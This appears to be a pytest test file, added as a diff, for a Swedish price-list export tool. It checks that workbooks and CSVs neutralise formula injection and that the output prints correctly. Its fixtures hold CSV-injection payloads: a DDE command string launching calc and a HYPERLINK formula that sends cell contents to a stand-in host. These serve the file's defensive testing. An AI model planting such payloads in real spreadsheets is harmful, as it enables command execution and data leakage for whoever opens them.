@@ -1,0 +1,229 @@
+"""The workbooks and CSVs: nothing from the data is ever live, characters XML cannot hold never
+reach the writer, and the price list prints (page setup, Swedish labels, SUM totals)."""
+
+from __future__ import annotations
+
+import csv
+import re
+import shutil
+import subprocess
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from prismodell.export import neutralise_column, neutralise_text
+
+from .conftest import DATA_2023, run_cli
+
+# The only formulas the tool writes: SUM over a range, and a guarded quotient of two cells.
+TOOL_FORMULA = re.compile(
+    r'=(SUM\([A-Z]+\d+:[A-Z]+\d+\)|IF\([A-Z]+\d+=0,"",[A-Z]+\d+/[A-Z]+\d+\)|0)'
+)
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"klicka")'
+
+
+def assert_nothing_live(path: Path) -> list[str]:
+    """Every formula is one the tool writes; no text cell starts like a formula. Returns the
+    workbook's texts."""
+    texts = []
+    for sheet in load_workbook(path):
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    assert TOOL_FORMULA.fullmatch(cell.value), (sheet.title, cell.coordinate)
+                elif isinstance(cell.value, str):
+                    assert not cell.value.startswith(FORMULA_STARTS), (sheet.title, cell.value)
+                    texts.append(cell.value)
+    return texts
+
+
+def assert_csv_inert(path: Path) -> None:
+    with path.open(encoding="utf-8", newline="") as handle:
+        for row in csv.reader(handle):
+            for field in row:
+                if field and not re.fullmatch(r"-?\d+(\.\d+)?", field):  # numbers may be negative
+                    assert not field.startswith(FORMULA_STARTS), (path.name, field)
+
+
+def hostile_folder(mini: Path) -> Path:
+    """Formula-like text in every place the data can put text: names, types, ids, headings."""
+    model = (mini / "model.yml").read_text(encoding="utf-8")
+    model = model.replace("name: Leverantörsreskontra", "name: '+Leverantörsreskontra'")
+    model = model.replace("name: Aktiva avtal", "name: '@Aktiva avtal'")
+    model = model.replace("name: Hyresadministration", f"name: '{HOSTILE}'")
+    (mini / "model.yml").write_text(model, encoding="utf-8")
+    customers = (mini / "customers.csv").read_text(encoding="utf-8")
+    customers = customers.replace("Bromma stadsdelsförvaltning", "-Bromma")
+    customers = customers.replace("Farsta stadsdelsförvaltning", '"=1+1"')
+    customers = customers.replace("stadsdelsförvaltning\n", "\uff1dtyp\n", 1)
+    (mini / "customers.csv").write_text(customers, encoding="utf-8")
+    scenario = mini / "scenarios" / "exempel.yml"
+    lines = scenario.read_text(encoding="utf-8").splitlines()
+    lines = [
+        "description: \"=cmd|' /C calc'!A0 Exempelscenario\""
+        if ln.startswith("description")
+        else ln
+        for ln in lines
+    ]
+    scenario.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    return mini
+
+
+def test_no_text_from_the_data_becomes_a_formula(mini: Path, tmp_path: Path):
+    data = hostile_folder(mini)
+    out = tmp_path / "ut"
+    assert run_cli("calculate", data, "--out", out) == 0
+    texts = assert_nothing_live(out / "prislista.xlsx")
+    assert f"'{HOSTILE}" in texts  # shown, as text, not run
+    assert "'+Leverantörsreskontra" in texts and "'-Bromma" in texts and "'=1+1" in texts
+    for name in out.glob("*.csv"):
+        assert_csv_inert(name)
+
+    scenario = tmp_path / "scen"
+    assert run_cli("calculate", data, "--scenario", "exempel", "--out", scenario) == 0
+    assert_nothing_live(scenario / "prislista.xlsx")
+    target = tmp_path / "jämförelse.xlsx"
+    assert run_cli("compare", data, "--scenario", "exempel", "--out", target) == 0
+    texts = assert_nothing_live(target)
+    assert any("=cmd|' /C calc'!A0 Exempelscenario" in t for t in texts)
+
+
+@pytest.mark.parametrize("bad", ["\x00", "\x0b", "\x1f", "\ufffe"])
+def test_characters_xml_cannot_hold_never_give_a_traceback(
+    mini: Path, tmp_path: Path, capsys, bad: str
+):
+    customers = mini / "customers.csv"
+    customers.write_text(
+        customers.read_text(encoding="utf-8").replace("Farsta", f"Far{bad}sta"), encoding="utf-8"
+    )
+    out = tmp_path / "ut"
+    code = run_cli("calculate", mini, "--out", out)
+    assert code in (0, 2) and "Traceback" not in capsys.readouterr().err
+    if code == 0:
+        texts = assert_nothing_live(out / "prislista.xlsx")
+        assert "Far\ufffdsta stadsdelsförvaltning" in texts
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(st.one_of(st.text(), st.none(), st.integers()), min_size=1, max_size=30))
+def test_column_neutralisation_is_the_cell_rule(values):
+    series = pd.Series(values, dtype=object)
+    expected = [neutralise_text(v) for v in values]
+    got = neutralise_column(series).tolist()
+    assert [None if pd.isna(v) else v for v in got] == [None if v is None else v for v in expected]
+    for value in got:
+        if isinstance(value, str):
+            assert not value.startswith(FORMULA_STARTS)
+            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", value)
+
+
+def test_column_neutralisation_keeps_clean_columns_and_numbers_untouched():
+    clean = pd.Series(["a", "b", None])
+    assert neutralise_column(clean) is clean
+    numbers = pd.Series(np.arange(3.0))
+    assert neutralise_column(numbers) is numbers
+    ids = pd.Series(["=x"] * 100_000 + ["y"])
+    assert neutralise_column(ids).value_counts().to_dict() == {"'=x": 100_000, "y": 1}
+
+
+# --------------------------------------------------------------------------- printing
+
+
+@pytest.fixture(scope="module")
+def example_workbook(tmp_path_factory) -> Path:
+    out = tmp_path_factory.mktemp("wb") / "ut"
+    assert run_cli("calculate", DATA_2023, "--out", out) == 0
+    return out / "prislista.xlsx"
+
+
+def test_every_sheet_is_set_up_for_a4_landscape_printing(example_workbook: Path):
+    for sheet in load_workbook(example_workbook):
+        setup = sheet.page_setup
+        assert setup.orientation == "landscape" and int(setup.paperSize) == 9, sheet.title
+        assert sheet.sheet_properties.pageSetUpPr.fitToPage
+        assert int(setup.fitToWidth or 1) == 1 and int(setup.fitToHeight) == 0
+        assert sheet.print_title_rows == "$4:$4"
+        assert sheet.oddFooter.left.text == "Prislista 2023"
+        assert sheet.oddFooter.right.text == "Sida &P av &N"
+        assert sheet.freeze_panes == "A5"
+
+
+def test_totals_are_sum_formulas_with_the_right_results(example_workbook: Path):
+    formulas = load_workbook(example_workbook)
+    values = load_workbook(example_workbook, data_only=True)
+    for name in ["Prislista", "Självkostnad", "Fördelning", "Jämförelse"]:
+        sheet, cached = formulas[name], values[name]
+        last = sheet.max_row
+        total_cells = [c for c in sheet[last] if c.data_type == "f"]
+        assert total_cells, name
+        for cell in total_cells:
+            match = re.fullmatch(r"=SUM\(([A-Z]+)5:([A-Z]+)(\d+)\)", cell.value)
+            if match is None:
+                continue
+            column = match.group(1)
+            rows = [cached[f"{column}{r}"].value for r in range(5, int(match.group(3)) + 1)]
+            assert cached[cell.coordinate].value == pytest.approx(sum(v or 0 for v in rows))
+    prislista = formulas["Prislista"]
+    assert prislista["I5"].value == "=SUM(D5:H5)"  # a customer's total over its areas
+    change = formulas["Jämförelse"]
+    assert change.cell(change.max_row, 7).value.startswith("=IF(")
+    assert values["Jämförelse"].cell(change.max_row, 7).number_format == "0.0%"
+
+
+def test_labels_are_swedish_and_percentages_are_numbers(example_workbook: Path):
+    book = load_workbook(example_workbook, data_only=True)
+    rates = [r[0] for r in book["Timpriser"].iter_rows(min_row=5, values_only=True)]
+    assert rates[:2] == ["Ekonomiadministratör", "Ekonom"] and "ekonomiadministrator" not in rates
+    weight = book["Styckpriser"]["D5"]
+    assert isinstance(weight.value, float) and weight.number_format == "0.0%"
+    change = book["Jämförelse"]["G5"]
+    assert isinstance(change.value, float) and change.number_format == "0.0%"
+
+
+def _pdf_pages(pdf: Path) -> list[str]:
+    text = subprocess.run(
+        ["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True
+    ).stdout
+    return text.split("\f")
+
+
+@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice saknas (setup.sh)")
+def test_libreoffice_prints_every_table_readably(example_workbook: Path, tmp_path: Path):
+    profile = tmp_path / "lo-profile"  # its own profile: parallel runs do not collide
+    subprocess.run(
+        [
+            "soffice",
+            f"-env:UserInstallation=file://{profile}",
+            "--headless",
+            "--convert-to",
+            "pdf",
+            "--outdir",
+            str(tmp_path),
+            str(example_workbook),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=300,
+    )
+    pages = [p for p in _pdf_pages(tmp_path / "prislista.pdf") if p.strip()]
+    book = load_workbook(example_workbook, data_only=True)
+    text = "\n".join(pages)
+    for sheet in book:
+        headers = [c.value for c in sheet[4] if c.value]
+        # Every heading of every sheet is printed: no column is cut off the page.
+        for header in headers:
+            for word in str(header).split():
+                assert word in text, (sheet.title, header)
+        # The last customer's or row's first cell and the total label are printed.
+        assert str(sheet.cell(sheet.max_row - 1, 1).value) in text, sheet.title
+    # Headers repeat: each page of the long allocation sheet starts with its header row.
+    allocation = [p for p in pages if "Fördelning" in p or "Kund-id" in p]
+    assert len(allocation) > 1 and all("Kund-id" in p for p in allocation)
+    for page in pages:  # the footer: year and page number on every page
+        assert "Prislista 2023" in page and re.search(r"Sida \d+ av \d+", page)
